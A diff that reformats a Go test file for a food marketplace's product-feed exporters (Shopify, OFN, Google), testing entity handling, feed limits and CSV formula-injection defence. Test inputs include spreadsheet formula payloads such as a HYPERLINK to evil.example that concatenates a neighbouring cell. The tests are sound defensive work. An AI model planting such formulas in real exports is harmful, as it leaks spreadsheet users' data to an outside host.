@@ -10,13 +10,21 @@ import (
 )
 
 var cheese = Listing{
-	ID: "prd_portland_0", ProducerID: "pro_portland_0", Handle: "gouda", Producer: "Willow \"Dairy\"", Title: "=Gouda, aged",
-	Description: "Two years old.\n\nNutty & <sweet>.", Category: "Cheese", Path: "Dairy & eggs > Cheese", Tags: []string{"hard, cow", "raw"},
+	ID: "prd_portland_0", ProducerID: "pro_portland_0", Handle: "gouda", Producer: "Willow \"Dairy\"",
+	Title:       "=Gouda, aged",
+	Description: "Two years old.\n\nNutty & <sweet>.", Category: "Cheese", Path: "Dairy & eggs > Cheese",
+	Tags:      []string{"hard, cow", "raw"},
 	Allergens: []string{"milk"}, Certifications: []string{"Organic; EU"}, Link: "https://shop.test/p/gouda",
 	Images: []string{"https://shop.test/1", "https://shop.test/2", "https://shop.test/3"},
 	Offers: []Offer{
-		{ID: "var_portland_0", Title: "Wedge", SKU: "-1", Price: "24.00", Currency: "USD", ByWeight: true, Available: 12_350},
-		{ID: "var_portland_1", Title: "Piece", Barcode: "4006381333931", Price: "6.50", Currency: "USD", UnitValue: 250, Unit: "g", Available: 0},
+		{
+			ID: "var_portland_0", Title: "Wedge", SKU: "-1", Price: "24.00", Currency: "USD", ByWeight: true,
+			Available: 12_350,
+		},
+		{
+			ID: "var_portland_1", Title: "Piece", Barcode: "4006381333931", Price: "6.50", Currency: "USD",
+			UnitValue: 250, Unit: "g", Available: 0,
+		},
 	},
 }
 
@@ -61,11 +69,16 @@ ofn
 
 func TestATextThatHasAnEntityComesBackAsItIs(t *testing.T) {
 	odd := Listing{
-		Handle: "x", Producer: "R&amp;D", Title: "&lt;b&gt; &section; & Co", Category: "A &amp; B", Tags: []string{"salt &amp; pepper"},
-		Offers: []Offer{{Title: "&eacute;", SKU: "A&amp;B", Price: "1.00", UnitValue: 1, Unit: "jar &amp; lid"}},
+		Handle: "x", Producer: "R&amp;D", Title: "&lt;b&gt; &section; & Co", Category: "A &amp; B",
+		Tags: []string{"salt &amp; pepper"},
+		Offers: []Offer{{
+			Title: "&eacute;", SKU: "A&amp;B", Price: "1.00", UnitValue: 1,
+			Unit: "jar &amp; lid",
+		}},
 	}
 	for name, made := range map[string]func(*bytes.Buffer) *Writer{
-		"shopify": func(out *bytes.Buffer) *Writer { return NewShopifyWriter(out) }, "ofn": func(out *bytes.Buffer) *Writer { return NewOFNWriter(out) },
+		"shopify": func(out *bytes.Buffer) *Writer { return NewShopifyWriter(out) },
+		"ofn":     func(out *bytes.Buffer) *Writer { return NewOFNWriter(out) },
 	} {
 		var out bytes.Buffer
 		w := made(&out)
@@ -73,7 +86,10 @@ func TestATextThatHasAnEntityComesBackAsItIs(t *testing.T) {
 			t.Fatal(err)
 		}
 		got := told(t, out.String())
-		for _, want := range []string{`"&lt;b&gt; &section; & Co" by "R&amp;D" in ["A &amp; B"]`, `"&eacute;" A&amp;B`} {
+		for _, want := range []string{
+			`"&lt;b&gt; &section; & Co" by "R&amp;D" in ["A &amp; B"]`,
+			`"&eacute;" A&amp;B`,
+		} {
 			if !strings.Contains(got, want) {
 				t.Errorf("%s: %s is not in\n%s", name, want, got)
 			}
@@ -84,8 +100,12 @@ func TestATextThatHasAnEntityComesBackAsItIs(t *testing.T) {
 func TestNoExportHasCellsThatASpreadsheetCalculates(t *testing.T) {
 	const formula = `=HYPERLINK("http://evil.example")`
 	listing := Listing{
-		ID: "prd_x_1", ProducerID: "pro_x_1", Handle: "h", Producer: "@SUM(1)", Title: formula, Description: "-2+3", Category: "+1", Path: "Cheese", Link: "http://shop.test/p",
-		Offers: []Offer{{ID: "var_x_1", Title: "=1", SKU: "+1", Barcode: "@1", Price: "1.00", Currency: "USD"}},
+		ID: "prd_x_1", ProducerID: "pro_x_1", Handle: "h", Producer: "@SUM(1)", Title: formula,
+		Description: "-2+3", Category: "+1", Path: "Cheese", Link: "http://shop.test/p",
+		Offers: []Offer{{
+			ID: "var_x_1", Title: "=1", SKU: "+1", Barcode: "@1", Price: "1.00",
+			Currency: "USD",
+		}},
 	}
 	for name, separator := range map[string]string{"shopify": ",", "ofn": ",", "google": "\t"} {
 		var out strings.Builder
@@ -96,7 +116,8 @@ func TestNoExportHasCellsThatASpreadsheetCalculates(t *testing.T) {
 		if err := errors.Join(w.Write(listing), w.Flush()); err != nil {
 			t.Fatal(err)
 		}
-		for _, cell := range strings.FieldsFunc(out.String(), func(r rune) bool { return strings.ContainsRune(separator+"\n", r) }) {
+		for _, cell := range strings.FieldsFunc(out.String(),
+			func(r rune) bool { return strings.ContainsRune(separator+"\n", r) }) {
 			if cell = strings.TrimPrefix(cell, `"`); strings.IndexAny(cell, "=+-@") == 0 {
 				t.Errorf("%s has the cell %q", name, cell)
 			}
@@ -109,7 +130,10 @@ func TestNoQuoteTurnsANameIntoAFormula(t *testing.T) {
 	for _, title := range []string{`"=HYPERLINK(""http://evil.example/?""&A2,""Cheese"")"`, "＝1+1", `"open`} {
 		var out strings.Builder
 		w := NewGoogleWriter(&out)
-		if err := errors.Join(w.Write(Listing{ID: "prd_x_1", Title: title, Link: "http://shop.test/p", Offers: []Offer{{ID: "var_x_1", Price: "1.00", Currency: "USD"}}}), w.Flush()); err != nil {
+		if err := errors.Join(w.Write(Listing{
+			ID: "prd_x_1", Title: title, Link: "http://shop.test/p",
+			Offers: []Offer{{ID: "var_x_1", Price: "1.00", Currency: "USD"}},
+		}), w.Flush()); err != nil {
 			t.Fatal(err)
 		}
 		read := csv.NewReader(strings.NewReader(out.String()))
@@ -118,7 +142,8 @@ func TestNoQuoteTurnsANameIntoAFormula(t *testing.T) {
 		if err != nil || len(rows) != 2 {
 			t.Fatalf("%s: %v, %v", title, rows, err)
 		}
-		if got := rows[1][1]; got != title && got != "'"+title || strings.ContainsAny(got[:1], "=+-@") || strings.HasPrefix(got, "＝") {
+		if got := rows[1][1]; got != title && got != "'"+title || strings.ContainsAny(got[:1], "=+-@") ||
+			strings.HasPrefix(got, "＝") {
 			t.Errorf("%s is read as %s", title, got)
 		}
 	}
@@ -126,7 +151,8 @@ func TestNoQuoteTurnsANameIntoAFormula(t *testing.T) {
 
 func TestTheGoogleFeedKeepsItsLimits(t *testing.T) {
 	long := cheese
-	long.ID, long.Title, long.Description = "prd_a-market-with-a-long-cod_01k8y6v0xq7d3mz1n5r2t9w4bc", strings.Repeat("ä", 200), strings.Repeat("ö\t\n", 6000)
+	long.ID, long.Title, long.Description = "prd_a-market-with-a-long-cod_01k8y6v0xq7d3mz1n5r2t9w4bc",
+		strings.Repeat("ä", 200), strings.Repeat("ö\t\n", 6000)
 	long.ProducerID = "pro_a-market-with-a-long-cod_01k8y6v0xq7d3mz1n5r2t9w4bc"
 	long.Offers = append([]Offer{}, long.Offers...)
 	long.Offers[0].ID = "var_a-market-with-a-long-cod_01k8y6v0xq7d3mz1n5r2t9w4bc"
